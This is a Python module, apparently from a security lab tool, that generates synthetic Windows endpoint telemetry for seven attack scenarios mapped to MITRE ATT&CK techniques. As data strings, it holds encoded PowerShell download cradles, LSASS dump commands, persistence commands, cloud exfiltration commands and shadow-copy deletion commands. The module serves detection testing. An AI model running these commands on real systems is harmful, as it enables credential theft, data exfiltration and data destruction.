"""Hands on a Windows endpoint: execution, credential theft, persistence, discovery,
command and control, exfiltration and impact."""

from __future__ import annotations

from datetime import datetime, timedelta

from tracehound.lab.background.plan import DevicePlan
from tracehound.lab.clock import to_us
from tracehound.lab.data.images import dropped_image

from .base import ScenarioSpec, Story, jitter
from .infra import attacker_ip, encode_powershell, implant_name, rare_domain

_CRADLES = (
    "IEX (New-Object Net.WebClient).DownloadString('{url}')",
    "$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('{url}')",
    "IEX (iwr -UseBasicParsing '{url}').Content",
    "[Net.ServicePointManager]::SecurityProtocol='Tls12';(New-Object Net.WebClient).DownloadFile('{url}',\"$env:TEMP\\{file}\");Start-Process \"$env:TEMP\\{file}\"",  # noqa: E501
)
_FLAGS = (
    "-nop -w hidden -enc",
    "-NoP -NonI -W Hidden -Exec Bypass -EncodedCommand",
    "-noprofile -windowstyle hidden -e",
    "-ep bypass -nop -enc",
)


def _workstation_session(
    story: Story,
    last_hours: float | None = None,
) -> tuple[DevicePlan, datetime]:
    ws = [d for d in story.ctx.estate.workstations if d.primary_user is not None]
    return story.in_session(ws, last_hours)


def powershell_cradle(story: Story) -> None:
    """An Office document spawns PowerShell with an encoded download cradle."""
    rng = story.rng
    dp, at = _workstation_session(story)
    dev = dp.device
    domain = rare_domain(rng)
    ip = attacker_ip(rng)
    file = f"{rng.bytes(3).hex()}.exe"
    url = f"https://{domain}/{story.pick(['a', 'dl', 'update', 'cdn'])}/{rng.bytes(4).hex()}.ps1"
    script = story.pick(list(_CRADLES)).format(url=url, file=file)
    host_key = story.pick(
        [k for k in ("winword", "excel", "outlook") if k in dp.procs] or ["explorer"]
    )
    host = dp.procs[host_key]
    if host_key == "outlook" and "winword" in dp.procs:
        host = story.proc(
            dev,
            host,
            "winword",
            '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}\\Invoice_{}.docm" /o ""'.format(  # noqa: E501
                dp.device.primary_user.account.name if dp.device.primary_user else "user",
                rng.bytes(4).hex().upper(),
                int(rng.integers(1000, 9999)),
            ),
            at,
        )
        at += jitter(rng, 20)
    ps = story.proc(
        dev,
        host,
        "powershell",
        f"powershell.exe {story.pick(list(_FLAGS))} {encode_powershell(script)}",
        at,
    )
    story.proc(
        dev,
        ps,
        "conhost",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        at + jitter(rng, 0.2),
    )
    story.net(dev, ps, at + jitter(rng, 1.5), ip, 443, url=domain)
    if "DownloadFile" in script:
        user = ps.account.name
        story.file(
            dev,
            ps,
            at + jitter(rng, 3),
            f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{file}",
            size=int(rng.integers(90_000, 900_000)),
            FileOriginUrl=url.replace(".ps1", ".exe"),
        )
    story.details |= {"url": url, "domain": domain, "decoded": script, "parent": host.image.name}


def lsass_dump(story: Story) -> None:
    """An elevated shell dumps LSASS memory with procdump or comsvcs.dll MiniDump."""
    rng = story.rng
    admin_ws = [
        d for d in story.ctx.estate.workstations if d.primary_user and d.primary_user.is_admin
    ]
    dp, at = story.in_session(admin_ws or story.ctx.estate.workstations)
    dev = dp.device
    user = dev.primary_user
    acc = user.admin_account if user and user.admin_account else dp.procs["explorer"].account
    lsass = dp.procs["lsass"]
    shell = story.proc(
        dev,
        dp.procs["explorer"],
        "powershell",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
        at,
        account=acc,
        integrity="High",
        elevation="TokenElevationTypeFull",
    )
    at += jitter(rng, 60)
    out = f"C:\\Windows\\Temp\\{story.pick(['ls', 'dbg', 'mem', 'out', 'debug'])}{int(rng.integers(1, 99))}.dmp"
    if rng.random() < 0.5:
        tool = story.proc(
            dev,
            shell,
            "procdump",
            f"procdump64.exe -accepteula -ma {story.pick(['lsass.exe', str(lsass.pid)])} {out}",
            at,
        )
        method = "procdump"
    else:
        tool = story.proc(
            dev,
            shell,
            "rundll32",
            f'"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {out} full',
            at,
        )
        method = "comsvcs"
    story.event(
        dev,
        tool,
        at + jitter(rng, 0.5),
        "OpenProcessApiCall",
        FileName="lsass.exe",
        FolderPath="C:\\Windows\\System32\\lsass.exe",
        ProcessId=lsass.pid,
        AdditionalFields={"DesiredAccess": 2097151},
    )
    story.file(dev, tool, at + jitter(rng, 2), out, size=int(rng.integers(40_000_000, 90_000_000)))
    story.details |= {"method": method, "dump": out, "lsass_pid": lsass.pid}


def persistence(story: Story) -> None:
    """A dropped implant made persistent through a Run key and a logon scheduled task."""
    rng = story.rng
    dp, at = _workstation_session(story)
    dev = dp.device
    user = dp.procs["explorer"].account
    name = implant_name(rng)
    sub = story.pick(["Microsoft\\Windows\\Update", "Intel", "Adobe\\Sync", "Packages"])
    folder = f"C:\\Users\\{user.name}\\AppData\\Roaming\\{sub}"
    path = f"{folder}\\{name}"
    shell = story.proc(dev, dp.procs["explorer"], "cmd", '"C:\\Windows\\system32\\cmd.exe"', at)
    dropper = story.proc(
        dev,
        shell,
        "powershell",
        f"powershell.exe -nop -c \"Copy-Item $env:TEMP\\{name} '{path}'\"",
        at + jitter(rng, 30),
    )
    story.file(dev, dropper, at + jitter(rng, 32), path, size=int(rng.integers(120_000, 800_000)))
    value = name.removesuffix(".exe")
    at += jitter(rng, 60)
    reg = story.proc(
        dev,
        shell,
        "reg",
        f'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {value} /t REG_SZ /d "{path}" /f',
        at,
    )
    story.reg(
        dev,
        reg,
        at + jitter(rng, 0.3),
        f"HKEY_CURRENT_USER\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        value,
        "String",
        path,
    )
    at += jitter(rng, 45)
    task = story.pick(
        [
            f"\\Microsoft\\Windows\\{value}",
            f"{value}Task",
            "OneDrive Standalone Update Task-S-1-5-21",
        ]
    )
    sched = story.proc(
        dev,
        shell,
        "schtasks",
        f'schtasks /create /sc onlogon /tn "{task}" /tr "{path}" /rl highest /f',
        at,
    )
    story.reg(
        dev,
        dp.procs["svc_schedule"],
        at + jitter(rng, 0.5),
        f"HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{task.lstrip(chr(92))}",
        "Id",
        "String",
        "{" + str(rng.bytes(4).hex()) + "}",
    )
    story.file(
        dev,
        dp.procs["svc_schedule"],
        at + jitter(rng, 0.6),
        f"C:\\Windows\\System32\\Tasks\\{task.lstrip(chr(92))}",
        size=3_900,
    )
    story.details |= {"implant": path, "run_value": value, "task": task, "schtasks_pid": sched.pid}


_DISCOVERY = (
    ("whoami", "whoami /all"),
    ("whoami", "whoami /groups"),
    ("net", 'net group "Domain Admins" /domain'),
    ("net", "net user /domain"),
    ("net", "net localgroup administrators"),
    ("nltest", "nltest /dclist:{domain}"),
    ("nltest", "nltest /domain_trusts /all_trusts"),
    ("ipconfig", "ipconfig /all"),
    ("systeminfo", "systeminfo"),
    ("tasklist", "tasklist /v"),
    ("net", "net view /all /domain"),
)


def discovery_burst(story: Story) -> None:
    """A quick burst of account, domain and host discovery commands from one shell."""
    rng = story.rng
    dp, at = _workstation_session(story)
    dev = dp.device
    shell = story.proc(dev, dp.procs["explorer"], "cmd", '"C:\\Windows\\system32\\cmd.exe"', at)
    picks = rng.choice(
        len(_DISCOVERY), size=int(rng.integers(6, len(_DISCOVERY) + 1)), replace=False
    )
    names = []
    for i in sorted(picks.tolist()):
        key, cmd = _DISCOVERY[i]
        at += jitter(rng, 9, 0.8)
        proc = story.proc(dev, shell, key, cmd.format(domain=story.ctx.estate.org.dns_domain), at)
        names.append(cmd.split()[0])
        if key == "net":
            story.proc(
                dev,
                proc,
                "net1",
                "C:\\Windows\\system32\\net1 " + cmd.split(" ", 1)[1],
                at + jitter(rng, 0.1),
            )
        if "/domain" in cmd or "dclist" in cmd:
            dc = story.ctx.estate.by_role("dc")[0]
            story.net(dev, proc, at + jitter(rng, 0.3), dc.private_ip, 389)
    story.details |= {"commands": names}


def c2_beacon(story: Story) -> None:
    """An implant calls home to a rare domain on a jittered period for hours."""
    rng = story.rng
    dp, at = _workstation_session(story)
    dev = dp.device
    user = dp.procs["explorer"].account
    name = implant_name(rng)
    img = dropped_image(
        name, f"C:\\Users\\{user.name}\\AppData\\Local\\Temp", int(rng.integers(150_000, 600_000))
    )
    implant = story.proc(dev, dp.procs["explorer"], img, f'"{img.path}"', at)
    domain, ip = rare_domain(rng), attacker_ip(rng)
    period = float(rng.uniform(45, 300))
    spread = float(rng.uniform(0.1, 0.3))
    session_end = dp.session.end_us if dp.session else 0
    count = 0
    t = at + timedelta(seconds=5)
    limit = min(session_end, to_us(at + timedelta(hours=float(rng.uniform(3, 8)))))
    while to_us(t) < limit and count < 400:
        story.net(dev, implant, t, ip, 443, url=domain)
        count += 1
        t += jitter(rng, period, spread)
    story.details |= {
        "domain": domain,
        "period_s": round(period, 1),
        "jitter": round(spread, 2),
        "beacons": count,
        "implant": img.path,
    }


def exfil_cloud(story: Story) -> None:
    """Staged files are copied to cloud storage with rclone or to a foreign blob account."""
    rng = story.rng
    dp, at = _workstation_session(story)
    dev = dp.device
    shell = story.proc(dev, dp.procs["explorer"], "cmd", '"C:\\Windows\\system32\\cmd.exe"', at)
    at += jitter(rng, 30)
    fs = story.ctx.estate.by_role("server")[0].short_name
    if rng.random() < 0.5:
        remote = story.pick(["mega:backup", "mega:archive", "remote:data"])
        tool = story.proc(
            dev,
            shell,
            "rclone",
            f"rclone.exe copy \\\\{fs}\\Departments\\{story.pick(['Finance', 'Legal', 'HR'])} {remote} --transfers 8 --max-age 2y -q --config C:\\ProgramData\\sync\\rclone.conf",  # noqa: E501
            at,
        )
        hosts = [
            ("g.api.mega.co.nz", "31.216.145.5"),
            ("gfs270n151.userstorage.mega.co.nz", "66.203.125.13"),
            ("gfs214n103.userstorage.mega.co.nz", "89.44.169.135"),
        ]
        method = "rclone-mega"
    else:
        account = f"{rng.bytes(4).hex()}backup"
        tool = story.proc(
            dev,
            shell,
            "powershell",
            f"powershell.exe -nop -c \"Compress-Archive \\\\{fs}\\Departments\\Finance C:\\ProgramData\\f.zip; Invoke-RestMethod -Method Put -InFile C:\\ProgramData\\f.zip -Uri 'https://{account}.blob.core.windows.net/data/f.zip?sv=2022-11-02&ss=b&srt=o&sp=rwc&se=2030-01-01&sig={rng.bytes(16).hex()}' -Headers @{{'x-ms-blob-type'='BlockBlob'}}\"",  # noqa: E501
            at,
        )
        hosts = [
            (
                f"{account}.blob.core.windows.net",
                "20.60.{}.{}".format(*rng.integers(1, 254, size=2)),
            )
        ]
        method = "blob-upload"
    fs_dev = story.ctx.estate.by_role("server")[0]
    story.net(dev, tool, at + jitter(rng, 1), fs_dev.private_ip, 445)
    for _ in range(int(rng.integers(25, 80))):
        at += jitter(rng, 6, 0.9)
        host, ip = story.pick(hosts)
        story.net(dev, tool, at, ip, 443, url=host)
    story.details |= {"method": method, "destinations": sorted({h for h, _ in hosts})}


_EXTS = ("locked", "crypt", "enc", "r4nsm", "kraken", "dark")


def ransomware(story: Story) -> None:
    """Shadow copies and backups deleted, then documents renamed en masse with a new extension."""
    rng = story.rng
    dp, at = _workstation_session(story, last_hours=None)
    dev = dp.device
    user = dp.procs["explorer"].account
    name = implant_name(rng)
    img = dropped_image(name, "C:\\ProgramData", int(rng.integers(200_000, 2_000_000)))
    payload = story.proc(
        dev,
        dp.procs["explorer"],
        img,
        f'"{img.path}" -path C:\\Users',
        at,
        integrity="High",
        elevation="TokenElevationTypeFull",
    )
    commands = [
        ("vssadmin", "vssadmin.exe delete shadows /all /quiet"),
        ("wmic", "wmic.exe shadowcopy delete /nointeractive"),
        ("bcdedit", "bcdedit.exe /set {default} recoveryenabled No"),
        ("bcdedit", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
        ("wbadmin", "wbadmin.exe delete catalog -quiet"),
    ]
    keep = sorted(rng.choice(len(commands), size=int(rng.integers(3, 6)), replace=False).tolist())
    for i in keep:
        key, cmd = commands[i]
        at += jitter(rng, 2)
        story.proc(dev, payload, key, cmd, at)
    ext = story.pick(list(_EXTS)) + str(int(rng.integers(10, 99)))
    docs = ("Documents", "Desktop", "OneDrive - Contoso\\Documents", "Pictures")
    count = int(rng.integers(150, 400))
    for k in range(count):
        at += timedelta(milliseconds=float(rng.uniform(30, 400)))
        folder = f"C:\\Users\\{user.name}\\{story.pick(list(docs))}"
        original = f"{folder}\\{story.pick(['Report', 'Invoice', 'Budget', 'Scan', 'Photo', 'Contract'])}_{k:04d}.{story.pick(['docx', 'xlsx', 'pdf', 'jpg', 'pptx'])}"  # noqa: E501
        story.file(dev, payload, at, f"{original}.{ext}", action="FileRenamed", previous=original)
        if k % 40 == 0:
            story.file(
                dev,
                payload,
                at + timedelta(milliseconds=5),
                f"{folder}\\README_RESTORE_FILES.txt",
                size=1_712,
            )
    story.details |= {"extension": ext, "renamed": count, "payload": img.path}


SPECS = (
    ScenarioSpec(
        "powershell-cradle",
        "Office document launches an encoded PowerShell download cradle",
        ("T1566.001", "T1204.002", "T1059.001", "T1027", "T1105"),
        ("TA0001", "TA0002", "TA0005", "TA0011"),
        powershell_cradle,
    ),
    ScenarioSpec(
        "lsass-dump",
        "LSASS memory dumped with procdump or comsvcs.dll",
        ("T1003.001",),
        ("TA0006",),
        lsass_dump,
    ),
    ScenarioSpec(
        "persistence-run-key-task",
        "Implant persisted with a Run key and a logon scheduled task",
        ("T1547.001", "T1053.005"),
        ("TA0003", "TA0004", "TA0002"),
        persistence,
    ),
    ScenarioSpec(
        "discovery-burst",
        "Burst of account, group and domain discovery commands",
        ("T1033", "T1087.002", "T1069.002", "T1482", "T1016", "T1082"),
        ("TA0007",),
        discovery_burst,
    ),
    ScenarioSpec(
        "c2-beacon",
        "Implant beaconing to a rare domain on a jittered period",
        ("T1071.001", "T1573.002"),
        ("TA0011",),
        c2_beacon,
    ),
    ScenarioSpec(
        "exfil-cloud-storage",
        "Share data exfiltrated to cloud storage",
        ("T1567.002", "T1039"),
        ("TA0010", "TA0009"),
        exfil_cloud,
    ),
    ScenarioSpec(
        "ransomware-impact",
        "Shadow copies deleted and documents mass-renamed by ransomware",
        ("T1490", "T1486"),
        ("TA0040",),
        ransomware,
    ),
)
